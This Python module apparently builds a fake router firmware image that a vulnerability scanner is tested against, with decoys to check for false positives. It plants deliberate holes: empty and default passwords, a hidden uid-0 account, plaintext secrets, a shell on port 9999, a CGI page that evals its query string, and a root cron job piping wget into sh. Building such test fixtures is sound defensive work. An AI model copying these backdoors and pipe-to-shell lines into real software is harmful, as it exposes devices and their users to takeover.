# SPDX-License-Identifier: Apache-2.0
"""The home gateway's own configuration in the manner of OpenWrt and of vendors' software kits, the
weaknesses planted in it, and decoys that look like one and are none."""
import lzma

from . import sample
from .plant import fixture

ADMIN = "$1$gwadmin0$X.Wti4yu0DjS2zNMFtfli/"
TECH = "$1$gwtech00$WtOW7BVrSvtz8OUYDy3/M/"


def accounts(t, p):
	t.file("etc/passwd", "root:x:0:0:root:/root:/bin/ash\nadmin:%s:500:500::/home/admin:/bin/ash\n"
		"gwtech:%s:0:0::/:/bin/ash\nnobody:*:65534:65534:nobody:/var:/bin/false\n" % (ADMIN, TECH))
	t.file("etc/shadow", "root::0:0:99999:7:::\nnobody:*:0:0:99999:7:::\n", 0o644)
	t.file("etc/group", "root:x:0:\nadmin:x:500:\nnogroup:x:65534:\n")
	p.note("gw-root-empty", "default-credential", "etc/shadow", "root has an empty password", "account",
		"user='root' AND scheme='empty'", "root::0:")
	p.note("gw-admin-admin", "default-credential", "etc/passwd", "admin has the factory password admin",
		"account", "user='admin' AND guessed='admin'", ADMIN, "the hash stands in the readable file")
	p.note("gw-tech", "undocumented-access", "etc/passwd", "a second account with uid 0", "account",
		"user='gwtech' AND uid=0", "gwtech:" + TECH + ":0:0", "in no manual, no home")
	p.note("gw-shadow-mode", "excessive-privilege", "etc/shadow", "password hashes readable by all",
		"place", "path='/etc/shadow' AND mode & 4", None, "mode 0644")


def keys(t, p):
	t.file("etc/uhttpd.key", fixture("weak.key"), 0o600)
	t.file("etc/uhttpd.crt", fixture("weak.crt"))
	p.note("gw-web-key", "private-key", "etc/uhttpd.key", "the web server's key, the same in every device",
		"key", "part='private' AND bits=1024", None, "matches etc/uhttpd.crt")
	p.note("gw-weak-crt", "weak-crypto", "etc/uhttpd.crt", "1024 bit RSA, signed with MD5", "certificate",
		"bits=1024 AND signature LIKE 'md5%'")
	t.file("etc/tr069/client.p12", fixture("client.p12"), 0o600)
	p.note("gw-p12", "private-key", "etc/tr069/client.p12", "PKCS#12 with a guessable password", "key",
		"part='private' AND format='pkcs12'", None, "the password is changeit")
	t.file("etc/dropbear/dropbear_rsa_host_key", fixture("dropbear_rsa_host_key"), 0o600)
	p.note("gw-dropbear", "private-key", "etc/dropbear/dropbear_rsa_host_key",
		"dropbear host key: the very one of the base station", "key",
		"part='private' AND format='dropbear'", None, "the same key in two products")
	t.file("etc/tr069/acs-ca.crt", fixture("oam-expired.crt"))
	p.note("gw-expired", "expired-certificate", "etc/tr069/acs-ca.crt",
		"the certificate that the ACS is checked against ended in 2018", "certificate",
		"not_after LIKE '2018-01-01%'")
	t.file("etc/dropbear/authorized_keys", fixture("factory.pub"), 0o600)
	p.note("gw-authorized", "backdoor-indicator", "etc/dropbear/authorized_keys",
		"a key that may log in as root, the same in every device", "authorized_key",
		"comment LIKE '%factory%'")


UCI = {
	"wireless": """config wifi-device 'radio0'
	option type 'mac80211'
	option channel '1'

config wifi-iface 'default'
	option device 'radio0'
	option ssid 'Gateway-5G'
	option encryption 'psk2'
	option key 'Gw-Default-4711'

config wifi-iface 'guest'
	option device 'radio0'
	option encryption 'wep-open'
	option key1 's:13charwepkey1'

config wifi-iface 'office'
	option encryption 'wpa2'
	option auth_server '192.168.77.3'
	option auth_secret 'UciRadius55'
""",
	"network": """config interface 'wan'
	option proto 'pppoe'
	option username 'line0815@isp-net.de'
	option password 'pppoe-Secret'

config interface 'wg0'
	option proto 'wireguard'
	option private_key 'yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk='
""",
	"cwmp": """config acs 'acs'
	option url 'http://acs.isp-net.de:7547/'
	option username 'cpe-fleet'
	option password 'fleet-Acs-2017'

config cpe 'cpe'
	option connection_request_username 'acsuser'
	option connection_request_password 'Knock-Knock'
""",
	"snmpd": """config com2sec 'public'
	option secname 'ro'
	option source 'default'
	option community 'public'
""",
	"rpcd": """config login
	option username 'admin'
	option password '$p$root'
	list read '*'
	list write '*'
""",
	"dropbear": """config dropbear
	option PasswordAuth 'on'
	option RootPasswordAuth 'on'
	option Port '22'
""",
}


def uci(t, p):
	for name, text in UCI.items():
		t.file("etc/config/" + name, text, 0o600)
	for id, file, kind, value, what in (
			("gw-uci-wifi", "wireless", "wifi-psk", "Gw-Default-4711", "Wi-Fi passphrase (UCI)"),
			("gw-uci-wep", "wireless", "wep-key", "13charwepkey1", "WEP key (UCI)"),
			("gw-uci-radius", "wireless", "radius", "UciRadius55", "RADIUS secret (UCI)"),
			("gw-uci-pppoe", "network", "ppp", "pppoe-Secret", "PPPoE password (UCI)"),
			("gw-uci-wireguard", "network", "vpn", "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=",
				"WireGuard private key (UCI)"),
			("gw-uci-acs", "cwmp", "tr069-acs", "fleet-Acs-2017", "ACS password (UCI)"),
			("gw-uci-cpe", "cwmp", "tr069-cpe", "Knock-Knock", "connection request password (UCI)"),
			("gw-uci-snmp", "snmpd", "snmp-community", "public", "SNMP community (UCI)")):
		needle = "option community 'public'" if file == "snmpd" else value  # the section has that name too
		p.note(id, "secret-in-config", "etc/config/" + file, what, "secret",
			"kind='%s' AND value LIKE '%%%s%%'" % (kind, value), needle)


XML = """<?xml version="1.0"?>
<InternetGatewayDevice>
 <DeviceInfo><ModelName>HG-1</ModelName></DeviceInfo>
 <ManagementServer>
  <URL>http://acs.isp-net.de:7547/cwmp</URL>
  <Username>hg1-factory</Username>
  <Password>Xml-Acs-Pass</Password>
  <ConnectionRequestUsername>isp</ConnectionRequestUsername>
  <ConnectionRequestPassword>Xml-Knock</ConnectionRequestPassword>
 </ManagementServer>
 <LANDevice><WLANConfiguration instance="1"><SSID>HG-1</SSID>
  <PreSharedKey instance="1"><KeyPassphrase>Xml-Wifi-Key</KeyPassphrase></PreSharedKey>
 </WLANConfiguration></LANDevice>
 <X_VENDOR_Users><User><Name>telecomadmin</Name><Passwd>nE7jA%5m</Passwd></User></X_VENDOR_Users>
</InternetGatewayDevice>
"""
NVRAM = """http_username=admin
http_passwd=admin
lan_ipaddr=192.168.1.1
wl0_ssid=HG-1
wl0_wpa_psk=Nvram-Wifi-Key
pppoe_passwd=Nvram-Ppp
telnetd_enable=1
"""


def trees(t, p):
	t.file("etc/default_config.xml", XML)
	for id, kind, value, what in (
			("gw-xml-acs", "tr069-acs", "Xml-Acs-Pass", "ACS password (XML tree)"),
			("gw-xml-cpe", "tr069-cpe", "Xml-Knock", "connection request password (XML tree)"),
			("gw-xml-wifi", "wifi-psk", "Xml-Wifi-Key", "Wi-Fi passphrase (XML tree)")):
		p.note(id, "secret-in-config", "etc/default_config.xml", what, "secret",
			"kind='%s' AND value='%s'" % (kind, value), value)
	p.note("gw-xml-user", "hardcoded-credential", "etc/default_config.xml",
		"a hidden operator's account of the web page", "secret", "value='nE7jA%5m'", "nE7jA%5m",
		"user telecomadmin")
	t.file("etc/nvram.defaults", NVRAM)
	p.note("gw-nvram-admin", "default-credential", "etc/nvram.defaults",
		"the web page's password is admin", "secret", "name='http_passwd' AND value='admin'",
		"http_passwd=admin")
	p.note("gw-nvram-wifi", "secret-in-config", "etc/nvram.defaults", "Wi-Fi passphrase (nvram)", "secret",
		"name='wl0_wpa_psk' AND value='Nvram-Wifi-Key'", "wl0_wpa_psk=Nvram-Wifi-Key")
	t.file("etc/ppp/pap-secrets", "line0815 * pap-Secret *\n", 0o600)
	p.note("gw-pap", "secret-in-config", "etc/ppp/pap-secrets", "PPP secret", "secret",
		"kind='ppp' AND user='line0815'", "line0815 * pap-Secret *")
	vpn = "client\ndev tun\nremote vpn.isp-net.de 1194\ncipher DES-CBC\nauth MD5\nauth-user-pass auth.txt\n"
	t.file("etc/openvpn/client.conf", vpn)
	t.file("etc/openvpn/auth.txt", "gateway\nVpn-Pass-9\n", 0o600)
	p.note("gw-openvpn-cipher", "weak-crypto", "etc/openvpn/client.conf", "a VPN with DES and MD5",
		"setting", "name='cipher' AND value='DES-CBC'", "cipher DES-CBC")


PROCD = """#!/bin/sh /etc/rc.common
START=%d
USE_PROCD=1
start_service() {
	procd_open_instance
	procd_set_param command %s
	procd_set_param respawn
	procd_close_instance
}
"""
SERVICES = {"telnet": (50, "/usr/sbin/telnetd -F -l /bin/login"), "adbd": (80, "/usr/sbin/adbd"),
	"dropbear": (19, "/usr/sbin/dropbear -F -P /var/run/dropbear.pid -p 22"),
	"dnsmasq": (19, "/usr/sbin/dnsmasq -C /var/etc/dnsmasq.conf -k"),
	"vsftpd": (60, "/usr/sbin/vsftpd"), "miniupnpd": (94, "/usr/sbin/miniupnpd -f /etc/miniupnpd.conf -d")}
BOOT = """#!/bin/sh /etc/rc.common
START=10
boot() {
	mkdir -p /var/run /var/lock
	[ "$(nvram get factory_mode)" = 1 ] && telnetd -p 9999 -l /bin/sh &
}
"""
CGI = """#!/bin/sh
# diagnostics
echo "Content-type: text/plain"
echo
eval "$(echo "$QUERY_STRING" | sed 's/^cmd=//; s/%20/ /g')"
"""


def starting(t, p):
	t.file("etc/inittab", "::sysinit:/etc/init.d/rcS S boot\n::shutdown:/etc/init.d/rcS K shutdown\n"
		"::askconsole:/bin/ash\n")
	p.note("gw-console", "debug-interface", "etc/inittab", "a root shell on the console, no login",
		"autostart", "command LIKE '%/bin/ash%' AND init='inittab'", "::askconsole:/bin/ash")
	t.file("etc/init.d/boot", BOOT, 0o755)
	t.link("etc/rc.d/S10boot", "../init.d/boot")
	for name, (start, command) in SERVICES.items():
		t.file("etc/init.d/" + name, PROCD % (start, command), 0o755)
		t.link("etc/rc.d/S%d%s" % (start, name), "../init.d/" + name)
	t.file("usr/sbin/adbd", fixture("fieldtool-mipsel"), 0o755)
	p.note("gw-telnet", "insecure-service", "etc/init.d/telnet", "telnetd starts", "autostart",
		"program LIKE '%telnetd' AND init='procd'", "/usr/sbin/telnetd -F -l /bin/login")
	p.note("gw-adbd", "debug-interface", "etc/init.d/adbd", "the Android debug bridge starts", "autostart",
		"program LIKE '%adbd'", "/usr/sbin/adbd")
	p.note("gw-factory-mode", "backdoor-indicator", "etc/init.d/boot",
		"a setting opens a shell on port 9999", "script_call", "text LIKE '%9999%'",
		"telnetd -p 9999 -l /bin/sh", "TCP port 9999")
	t.file("etc/xinetd.d/tftp", "service tftp\n{\n\tsocket_type = dgram\n\tprotocol = udp\n\twait = yes\n"
		"\tuser = root\n\tserver = /usr/sbin/in.tftpd\n\tserver_args = -s /tmp -c\n\tdisable = no\n}\n")
	p.note("gw-tftp", "insecure-service", "etc/xinetd.d/tftp", "tftpd as root, clients may create files",
		"listener", "service='tftp'", "server = /usr/sbin/in.tftpd")
	t.file("etc/vsftpd.conf", "listen=YES\nanonymous_enable=YES\nanon_upload_enable=YES\nwrite_enable=YES\n")
	p.note("gw-ftp", "insecure-service", "etc/vsftpd.conf", "anonymous FTP, writable", "setting",
		"name='anonymous_enable' AND value='YES'", "anonymous_enable=YES")
	t.file("www/cgi-bin/.diag", CGI, 0o755)
	p.note("gw-cgi", "backdoor-indicator", "www/cgi-bin/.diag", "a hidden page that runs what it is sent",
		"script_call", "text LIKE '%QUERY_STRING%'", "eval \"$(echo \"$QUERY_STRING\"")


AUTOUPDATE = """#!/bin/sh
URL=http://update.isp-net.de/hg1/latest.trx
wget -q -O /tmp/latest.trx $URL || exit 1
mtd -r write /tmp/latest.trx linux
"""


def updates(t, p):
	t.file("usr/sbin/autoupdate", AUTOUPDATE, 0o755)
	p.note("gw-autoupdate", "insecure-update", "usr/sbin/autoupdate",
		"firmware over plain HTTP straight to flash", "fetch", "flashes=1",
		"wget -q -O /tmp/latest.trx $URL")
	t.file("etc/opkg.conf", "dest root /\ndest ram /tmp\nlists_dir ext /var/opkg-lists\n"
		"option overlay_root /overlay\nsrc/gz base http://downloads.isp-net.de/hg1/packages/base\n")
	p.note("gw-opkg", "insecure-update", "etc/opkg.conf", "a package feed over HTTP, signatures unchecked",
		"fetch", "scheme='http' AND purpose='package-feed'",
		"src/gz base http://downloads.isp-net.de/hg1/packages/base", "no option check_signature")
	t.file("etc/crontabs/root", "*/30 * * * * /usr/share/vendor/sync.sh\n"
		"5 4 * * * wget -qO- http://update.isp-net.de/hg1/nightly.sh | sh\n", 0o600)
	p.note("gw-cron", "insecure-update", "etc/crontabs/root", "what a server sends over HTTP runs as root",
		"fetch", "url LIKE '%nightly.sh%'", "wget -qO- http://update.isp-net.de/hg1/nightly.sh | sh")
	t.file("usr/share/vendor/sync.sh", "#!/bin/sh\nDBUSER=collector\nDBPASS=\"Stat5-collect\"\n"
		"curl -s -u $DBUSER:$DBPASS http://192.168.77.9/collect -d @/tmp/stat\n", 0o777)
	p.note("gw-writable", "excessive-privilege", "usr/share/vendor/sync.sh",
		"a script that root's cron runs and everyone may write", "place",
		"path='/usr/share/vendor/sync.sh' AND mode & 2", None, "mode 0777")
	p.note("gw-password", "hardcoded-credential", "usr/share/vendor/sync.sh", "a password in a script",
		"secret", "value LIKE '%Stat5-collect%'", "DBPASS=\"Stat5-collect\"")


def binaries(t, p):
	p.note("gw-adbd-hardening", "missing-hardening", "usr/sbin/adbd", "no PIE, no RELRO, no canary", "elf",
		"pie=0 AND relro='none'")
	p.note("gw-adbd-build", "non-reproducible-build", "usr/sbin/adbd", "date, user, host and path of the build",
		"build_trace", "value LIKE '%/jenkins/%'", "/home/jenkins/workspace/bts-release")
	t.file("usr/bin/rootsh", t["bin/busybox"].data, 0o6755, package=t["bin/busybox"].package,
		version=t["bin/busybox"].version)
	p.note("gw-setuid", "excessive-privilege", "usr/bin/rootsh", "a setuid root shell", "place",
		"path='/usr/bin/rootsh' AND mode & 2048", None, "a copy of BusyBox, mode 6755")
	t.file("lib/firmware/vendor.bin", sample.noise(65536, b"vendor"))
	p.note("gw-blob", "unexamined", "lib/firmware/vendor.bin", "64 KiB of noise without a header", "extent",
		"class='unknown'")
	whole = lzma.compress(sample.noise(30000, b"backup"))
	t.file("etc/backup.xz", whole[:12000])
	p.note("gw-truncated", "unexamined", "etc/backup.xz", "an xz that ends in the middle", "unexamined", "1")


DECOYS = [
	("etc/ssl/private/spare.key", "private-key", "encrypted: not to be accused as a plain key"),
	("usr/share/examples/hostapd.conf", "secret-in-config", "only comments and placeholders"),
	("usr/share/examples/client.sh", "hardcoded-credential", "the password comes from outside"),
	("etc/config/firewall", "insecure-service", "telnet stands in a rule that drops it"),
	("usr/share/examples/readme.txt", "default-credential", "prose about passwords"),
]


def decoys(t):
	t.file("etc/ssl/private/spare.key", fixture("encrypted.pem"), 0o600)
	t.file("usr/share/examples/hostapd.conf", "# wpa_passphrase=secret passphrase\n"
		"#auth_server_shared_secret=secret\n# wpa_psk=0123456789abcdef\n")
	t.file("usr/share/examples/client.sh", "#!/bin/sh\nPASSWORD=\"$1\"\nTOKEN=${TOKEN:-}\n"
		"curl --user \"$USER:$PASSWORD\" https://host.example.org/\n", 0o755)
	t.file("etc/config/firewall", "config rule\n\toption name 'no telnet'\n\toption dest_port '23'\n"
		"\toption proto 'tcp'\n\toption target 'DROP'\n")
	t.file("usr/share/examples/readme.txt", "The password of admin: is printed on the label. "
		"Visit http://user:password@host.example.com/ only as an example.\n")
	return [{"path": "/" + path, "kind": kind, "why": why} for path, kind, why in DECOYS]


def all(t, p):
	for write in (accounts, keys, uci, trees, starting, updates, binaries):
		write(t, p)
